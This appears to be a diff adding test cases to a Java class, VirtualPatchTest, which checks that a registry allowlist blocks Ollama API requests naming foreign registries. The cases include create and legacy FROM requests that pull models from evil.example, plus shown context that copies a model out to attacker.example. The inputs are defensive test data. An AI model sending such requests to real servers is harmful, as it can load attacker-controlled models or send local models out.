@@ -80,6 +80,16 @@ class VirtualPatchTest {
             "{\"model\":\"attacker.example/ns/m:tag\",\"from\":\"llama3\"}",
             "registry-allowlist"),
         Arguments.of(
+            "create from a model on a foreign registry (Ollama pulls it)",
+            "/api/create",
+            "{\"model\":\"mine\",\"from\":\"evil.example/ns/m\"}",
+            "registry-allowlist"),
+        Arguments.of(
+            "legacy FROM a model on a foreign registry",
+            "/api/create",
+            "{\"name\":\"mine\",\"modelfile\":\"FROM evil.example/ns/m:latest\"}",
+            "registry-allowlist"),
+        Arguments.of(
             "copy to a foreign registry",
             "/api/copy",
             "{\"source\":\"llama3\",\"destination\":\"attacker.example/ns/m\"}",
